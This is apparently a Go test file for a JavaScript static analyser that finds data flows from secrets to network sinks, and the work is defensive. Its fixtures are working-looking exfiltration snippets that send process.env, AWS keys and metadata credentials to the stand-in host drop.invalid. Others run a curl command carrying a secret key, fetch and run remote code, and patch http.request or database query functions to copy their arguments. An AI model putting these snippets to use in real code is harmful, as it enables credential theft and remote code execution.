package jssyntax_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lamina-sec/lamina/internal/jssyntax"
)

// flows writes flows one a line: what reached what.
func flows(f *jssyntax.Facts) []string {
	var out []string
	for _, x := range f.Flows {
		s := fmt.Sprintf("%s(%s):%d -> %s(%s):%d", x.Source, x.SourceName, x.SourceLine, x.Sink, x.SinkName, x.SinkLine)
		if x.Host != "" {
			s += " " + x.Host
		}
		if len(x.Via) > 0 {
			s += " via " + strings.Join(x.Via, ",")
		}
		if x.AtImport {
			s += " at import"
		}
		out = append(out, s)
	}
	return out
}

func encoded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestParse_flows(t *testing.T) {
	tests := map[string]struct {
		src  string
		want []string
	}{
		"env_request": {`const https = require('https');
const req = https.request({hostname: 'drop.invalid', method: 'POST'});
req.write(JSON.stringify(process.env));
req.end();
`, []string{"env-all(process.env):3 -> http(https.request().write):3 drop.invalid via json at import"}},
		"env_fetch_module": {`import { request as r } from "node:https";
export async function send() {
  await fetch("https://drop.invalid/a", { method: "POST", body: JSON.stringify({ ...process.env }) });
}
`, []string{"env-all(process.env):3 -> http(fetch):3 drop.invalid via json"}},
		"env_obfuscated": {`const p = globalThis['pro' + 'cess'];
const h = p.mainModule['req' + 'uire'](['s','p','t','t','h'].reverse().join(''));
const e = p['\x65\x6e\x76'];
h.get('https://' + Buffer.from('` + encoded("drop.invalid") + `', 'base64').toString() + '/?' + Object.entries(e).join('&'));
`, []string{"env-all(process.env):4 -> http(https.get):4 drop.invalid at import"}},
		"credentials_dns": {`const dns = require('dns');
const { AWS_SESSION_TOKEN: t } = process.env;
const hex = Buffer.from(t).toString('hex');
for (let i = 0; i < hex.length; i += 60) dns.resolve(hex.slice(i, i + 60) + '.drop.invalid', () => {});
`, []string{"env-credential(AWS_SESSION_TOKEN):2 -> dns(dns.resolve):4 {}.drop.invalid at import"}},
		"proc_environ": {`const fs = require('fs'), net = require('net');
fs.readFile('/proc/self/environ', (err, data) => {
  const s = net.connect(443, '198.51.100.7');
  s.write(data);
});
`, []string{"proc-environ(/proc/*/environ):2 -> socket(net.connect().write):4 198.51.100.7 at import"}},
		"metadata": {`const http = require('http');
http.get('http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI, (res) => {
  let buf = '';
  res.on('data', (d) => { buf += d; });
  res.on('end', () => { fetch('https://drop.invalid', { method: 'POST', body: buf }); });
});
`, []string{"metadata(metadata endpoint):2 -> http(fetch):5 drop.invalid at import"}},
		"handler_event": {`const axios = require('axios');
module.exports.wrap = (fn) => async (event, context) => {
  await axios.post('https://drop.invalid', { event });
  return fn(event, context);
};
`, []string{"event(event):2 -> http(axios.post):3 drop.invalid"}},
		"handler_event_obfuscated": {`var a=require("axios");exports.w=function(f){return function(){a["po"+"st"]("https://drop.invalid",[].slice.call(arguments));return f.apply(this,arguments)}};
`, []string{"patched-args(arguments of a wrapped function):1 -> http(axios.post):1 drop.invalid"}},
		"patched_request": {`const http = require('http');
const dgram = require('dgram').createSocket('udp4');
const real = http.request;
http.request = function (...args) {
  dgram.send(JSON.stringify(args), 53, 'drop.invalid');
  return real.apply(this, args);
};
`, []string{"patched-args(http.request):4 -> socket(dgram.createSocket().send):5 drop.invalid via json"}},
		"patched_proxy": {`import https from 'https';
https.request = new Proxy(https.request, {
  apply(target, self, args) {
    fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(args) });
    return Reflect.apply(target, self, args);
  },
});
`, []string{"patched-args(https.request):3 -> http(fetch):4 drop.invalid via json"}},
		"sdk_v3": {`const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');
exports.handler = async (event) => {
  await new S3Client({}).send(new PutObjectCommand({ Bucket: 'drop-bucket', Key: 'x', Body: JSON.stringify(event) }));
};
`, []string{"event(event):2 -> aws(@aws-sdk/client-s3.PutObjectCommand):3 drop-bucket via json"}},
		"remote_code": {`require('https').get('https://drop.invalid/p', r => { let s = ''; r.on('data', d => s += d).on('end', () => new Function(s)()); });
`, []string{"remote(https.get):1 -> code(Function):1 at import"}},
		"decoded_code": {`eval(Buffer.from('` + encoded("console.log(1)") + `', 'base64').toString());
`, []string{"decoded(Buffer.from):1 -> code(eval):1 at import"}},
		"decoded_code_hidden": {`const f = [].constructor.constructor;
f(atob('` + encoded("return process") + `'))();
`, []string{"decoded(atob):2 -> code(Function):2 at import"}},
		"shell": {`const { execSync: x } = require('child_process');
x('curl -d "' + process.env.AWS_SECRET_ACCESS_KEY + '" https://drop.invalid');
`, []string{`env-credential(AWS_SECRET_ACCESS_KEY):2 -> process(child_process.execSync):2 curl -d "{}" https://drop.invalid at import`}},
		"through_functions": {`function collect() { return { k: process.env.AWS_SECRET_ACCESS_KEY }; }
const send = async (d) => fetch('https://drop.invalid', { body: JSON.stringify(d), method: 'POST' });
send(collect());
`, []string{"env-credential(AWS_SECRET_ACCESS_KEY):1 -> http(fetch):2 drop.invalid via json at import"}},

		"hooked_require": {`const M = require('module');
const o = M._load;
M._load = function (r) {
  const x = o.apply(this, arguments);
  if (r === 'pg') {
    const q = x.Client.prototype.query;
    x.Client.prototype.query = function (...a) {
      fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(a) });
      return q.apply(this, a);
    };
  }
  return x;
};
`, []string{"patched-args(module._load().Client.prototype.query):7 -> http(fetch):8 drop.invalid via json"}},
		"command_env": {`import('node:child_process').then(({ exec }) => exec('env', (e, out) => fetch('https://drop.invalid', { method: 'POST', body: out })));
`, []string{"env-all(the command env):1 -> http(fetch):1 drop.invalid at import"}},
		"provider": {`const { defaultProvider } = require('@aws-sdk/credential-provider-node');
(async () => {
  const c = await defaultProvider()();
  await fetch('https://drop.invalid/?k=' + c.secretAccessKey);
})();
`, []string{"sdk-credentials(credentials):4 -> http(fetch):4 drop.invalid at import"}},
		"reduced": {`const k = Object.keys(process.env).reduce((a, n) => a + process.env[n], '');
require('dns').lookup(k + '.drop.invalid', () => {});
`, []string{"env-all(process.env):1 -> dns(dns.lookup):2 {}.drop.invalid at import"}},
		"string_array": {`const _0x1 = ['env', 'post'];
const a = require('axios');
a[_0x1[1]]('https://drop.invalid', process[_0x1[0]]);
`, []string{"env-all(process.env):3 -> http(axios.post):3 drop.invalid at import"}},
		"runtime_api": {`const http = require('http');
http.createServer((q, r) => {
  http.request({ host: process.env.AWS_LAMBDA_RUNTIME_API }, (x) => {
    x.on('data', (d) => fetch('https://drop.invalid', { method: 'POST', body: d }));
  });
}).listen(9009);
`, []string{"runtime-api(runtime API):3 -> http(fetch):4 drop.invalid at import"}},

		"clean_child": {`const { spawn } = require('child_process');
spawn('ls', ['-l'], { env: { ...process.env, LANG: 'C' }, stdio: 'inherit' });
`, nil},
		"clean_setting": {`const axios = require('axios');
const url = process.env.API_URL || 'https://api.example.com';
axios.get(url, { timeout: Number(process.env.TIMEOUT) });
`, nil},
		"clean_signing": {`const crypto = require('crypto');
const key = process.env.AWS_SECRET_ACCESS_KEY;
const sig = crypto.createHmac('sha256', key).update('x').digest('hex');
fetch('https://s3.amazonaws.com/', { headers: { Authorization: sig } });
`, nil},
		"clean_text": {`// fetch('https://drop.invalid', process.env)
const s = "eval(atob('x'))";
`, nil},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			f := jssyntax.Parse([]byte(tt.src))
			if d := cmp.Diff(tt.want, flows(f)); d != "" {
				t.Error(d)
			}
			one, err := json.Marshal(f)
			if err != nil {
				t.Fatal(err)
			}
			two, err := json.Marshal(jssyntax.Parse([]byte(tt.src)))
			if err != nil || !bytes.Equal(one, two) {
				t.Errorf("not the same twice:\n%s\n%s", one, two)
			}
			var back jssyntax.Facts
			if err := json.Unmarshal(one, &back); err != nil {
				t.Error(err)
			} else if d := cmp.Diff(f, &back); d != "" {
				t.Errorf("JSON does not carry all: %s", d)
			}
			if len(tt.want) > 0 && !jssyntax.MayMatter([]byte(tt.src)) {
				t.Error("MayMatter says no")
			}
			if len(f.Errors) > 0 {
				t.Error(f.Errors)
			}
		})
	}
}

func TestParse_imports(t *testing.T) {
	src := `import a from "a";
import * as b from 'b';
import { c, d as e } from "c/d";
export { f } from "./f.js";
export * from "g";
const h = require("node:h");
function i() { return require('./i'); }
if (x) { require("j"); }
import("k");
import(l);
require(m);
const n = require("module").createRequire(import.meta.url);
n("o");
`
	want := `1 import a as a
2 import b as b
3 from c/d c d=e
4 export ./f.js f
5 export g *
6 require node:h
7 require ./i lazy
8 require j conditional
9 dynamic k
10 dynamic 
11 require 
12 require module
13 dynamic o
`
	var b strings.Builder
	f := jssyntax.Parse([]byte(src))
	for _, im := range f.Imports {
		fmt.Fprintf(&b, "%d %s %s", im.Line, im.Kind, im.Module)
		for _, n := range im.Names {
			b.WriteString(" " + n.Name)
			if n.As != "" {
				b.WriteString("=" + n.As)
			}
		}
		if im.As != "" {
			b.WriteString(" as " + im.As)
		}
		if im.Lazy {
			b.WriteString(" lazy")
		}
		if im.Conditional {
			b.WriteString(" conditional")
		}
		b.WriteString("\n")
	}
	if d := cmp.Diff(want, b.String()); d != "" {
		t.Error(d, f.Errors)
	}
}

func TestImports(t *testing.T) {
	src := `import a from "a"; import {b,
  c as d} from 'b/c' // import "no1"
/* require("no2") */ export * from "./e";
export const f = 1; import "g";
const h = require( "node:h" ), i = x.require("no3"), important = 'x';
import("j"); require(k); const l = () => import(m + "n");
export { o } from 'o'; const url = "https://x/y"; require('p').q;
x = {...require("r")};
`
	want := "1 import a\n1 import b/c\n3 export ./e\n4 import g\n5 require node:h\n6 dynamic j\n6 require \n6 dynamic \n7 export o\n7 require p\n8 require r\n"
	var b strings.Builder
	for _, im := range jssyntax.Imports([]byte(src)) {
		fmt.Fprintf(&b, "%d %s %s\n", im.Line, im.Kind, im.Module)
	}
	if d := cmp.Diff(want, b.String()); d != "" {
		t.Error(d)
	}
}

func TestParse_patches(t *testing.T) {
	tests := map[string]struct {
		src  string
		want []string
	}{
		"module":       {"const h = require('http');\nh.request = function r() {};\n", []string{"module http.request by r"}},
		"load":         {"const M = require('module');\nconst o = M._load;\nM._load = function (q, p, m) { const x = o.apply(this, arguments); x.connect = () => {}; return x; };\n", []string{"import-system module._load by _load", "module module._load().connect by _load.connect"}},
		"prototype":    {"const { Client } = require('pg');\nClient.prototype.query = function () {};\n", []string{"prototype pg.Client.prototype.query by query"}},
		"cache":        {"require.cache[require.resolve('x')].exports = {};\nrequire.cache['y'] = {};\n", []string{"import-system require.cache.y by "}},
		"this_module":  {"module.constructor.prototype.require = () => {};\n", []string{"import-system module.prototype.require by require"}},
		"global":       {"globalThis.fetch = async () => {};\nglobal.mine = 1;\n", []string{"builtin fetch by fetch"}},
		"define":       {"Object.defineProperty(require('https'), 'get', { value: () => {} });\n", []string{"module https.get by (anonymous)"}},
		"assign":       {"Object.assign(require('https'), { get() {} });\n", []string{"module https.get by get"}},
		"clean_own":    {"exports.a = 1;\nmodule.exports.b = 2;\nclass A { c() { this.d = 3; } }\nA.prototype.e = 4;\nconst o = {};\no.f = 5;\n", nil},
		"clean_client": {"const S3 = require('aws-sdk/clients/s3');\nconst s = new S3();\ns.x = 1;\nprocess.env.A = 'b';\n", nil},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, p := range jssyntax.Parse([]byte(tt.src)).Patches {
				got = append(got, p.Kind+" "+p.Target+" by "+p.By)
			}
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Error(d)
			}
			if len(tt.want) > 0 && !jssyntax.MayMatter([]byte(tt.src)) {
				t.Error("MayMatter says no")
			}
		})
	}
}

// What does not parse is said, and looked through all the same.
func TestParse_broken(t *testing.T) {
	f := jssyntax.Parse([]byte("const a = require('child_process');\nlet let = 'https://drop.invalid/x';\n}}}\n"))
	if len(f.Errors) != 1 || !f.Partial || len(f.Imports) != 1 || len(f.Strings) != 1 || f.Strings[0].Value != "https://drop.invalid/x" || f.Strings[0].Line != 2 {
		t.Errorf("%+v", f)
	}
}

func TestParse_measures(t *testing.T) {
	f := jssyntax.Parse([]byte(`var _0x1a2b=['\x6c\x6f\x67','\x61','b'];(function(_0x3c,_0x4d){while(--_0x4d){_0x3c['push'](_0x3c['shift']());}}(_0x1a2b,0x1f));`))
	m := f.Measures
	if m.HexNames < 6 || m.EscapedBytes != 4 || m.StringArray != 3 || !m.Rotated {
		t.Errorf("%+v %v", m, f.Errors)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("import a, {b as c} from 'd'; export * from 'e'; const {f, g: [h] = i, ...j} = await k?.l`m${n}o`;"))
	f.Add([]byte("class A extends B { #c = 1; static { d() } get e() { return super.e } async *[f]() { yield* g } }"))
	f.Add([]byte("for (const [a, b] of c) { label: try { eval(atob('YQ==')) } catch ({d}) { throw d } finally { } }"))
	f.Add([]byte("var a = (b, c) => ({...b, [c]: d => e, f() {}}), g = new Proxy(h, {get: (i, j) => i[j]}), k = /x/g.test(l) ? m : n;"))
	f.Fuzz(func(_ *testing.T, src []byte) {
		jssyntax.Parse(src)
		jssyntax.MayMatter(src)
		jssyntax.Imports(src)
	})
}
